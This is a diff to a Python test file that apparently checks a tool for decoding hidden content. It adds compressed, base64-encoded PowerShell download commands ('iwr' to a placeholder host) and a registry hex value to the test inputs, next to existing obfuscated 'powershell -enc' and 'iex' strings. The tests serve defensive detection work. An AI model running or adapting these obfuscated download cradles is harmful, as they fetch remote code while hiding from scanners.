@@ -2,6 +2,7 @@
 
 import base64
 import random
+import zlib
 
 import pytest
 
@@ -85,6 +86,8 @@ ENCODED_COMMAND = base64.b64encode("iwr https://x.example/a".encode("utf-16-le")
         "i`wr htt`ps://x.exa`mple/a",
         "x = \"open('https:' + '//x.example/a')\"",
         f"x = \"iex('{base64.b64encode(b'https://x.example/a').decode()}')\"",
+        f"'{base64.b64encode(zlib.compress(b'iwr https://x.example/a')).decode()}'",
+        f"'{base64.b64encode(zlib.compress(b'iwr https://x.example/a')[2:-4]).decode()}'",
         f"powershell -nop -enc {ENCODED_COMMAND}",
         f"pwsh /EncodedCommand '{ENCODED_COMMAND}'",
     ],
@@ -128,6 +131,12 @@ LINES = base64.encodebytes(ARCHIVE).decode()
 )
 def test_a_document_in_a_text_is_cut_out(name: str, source: str) -> None:
     assert ARCHIVE in [step.piece.data for step in walk(source.encode(), name) if isinstance(step.piece, Child)]
+
+
+def test_values_of_the_registry_are_read() -> None:
+    value = ",".join(f"{byte:02x}" for byte in "https://x.example/a\0".encode("utf-16-le"))
+    data = f'[HKEY_CURRENT_USER\\a]\n"b"=hex(2):{value[:60]}\\\n  {value[60:]}\n'
+    assert shown(data.encode(), "lines, decoded") == "https://x.example/a"
 
 
 def test_lines_of_base64_are_read() -> None:
